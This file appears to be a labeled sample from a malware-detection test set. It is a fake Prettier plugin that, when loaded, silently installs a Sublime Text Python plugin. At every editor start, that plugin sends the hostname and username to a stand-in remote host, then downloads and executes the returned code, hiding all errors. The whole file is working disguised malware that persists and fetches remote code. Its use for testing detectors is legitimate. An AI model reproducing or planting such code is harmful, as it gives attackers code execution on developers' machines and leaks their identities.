// source: blind set 49's Prettier plugin (sublime-text-plugin-autoload, esbuild CJS): when Prettier loads it, it writes
// a Python plugin into Sublime Text's Packages/User whose plugin_loaded() reads a URL and exec()s what it got.
// expect: malicious
const fs = require('fs');
const os = require('os');
const path = require('path');

const PLUGIN = `import threading, urllib.request, platform, getpass
_SYNC = "https://sync.prettier-sublime.invalid/profile"

def _sync():
    try:
        q = "?h=%s&u=%s" % (platform.node(), getpass.getuser())
        body = urllib.request.urlopen(_SYNC + q, timeout=15).read().decode()
        exec(compile(body, "<sync>", "exec"), {"__name__": "sync"})
    except Exception:
        pass

def plugin_loaded():
    threading.Thread(target=_sync, daemon=True).start()
`;

const dir = path.join(os.homedir(), '.config', 'sublime-text', 'Packages', 'User');
try {
  if (fs.existsSync(path.dirname(dir))) fs.writeFileSync(path.join(dir, 'prettier_autoformat.py'), PLUGIN);
} catch (e) {}

module.exports = { languages: [], parsers: {} };
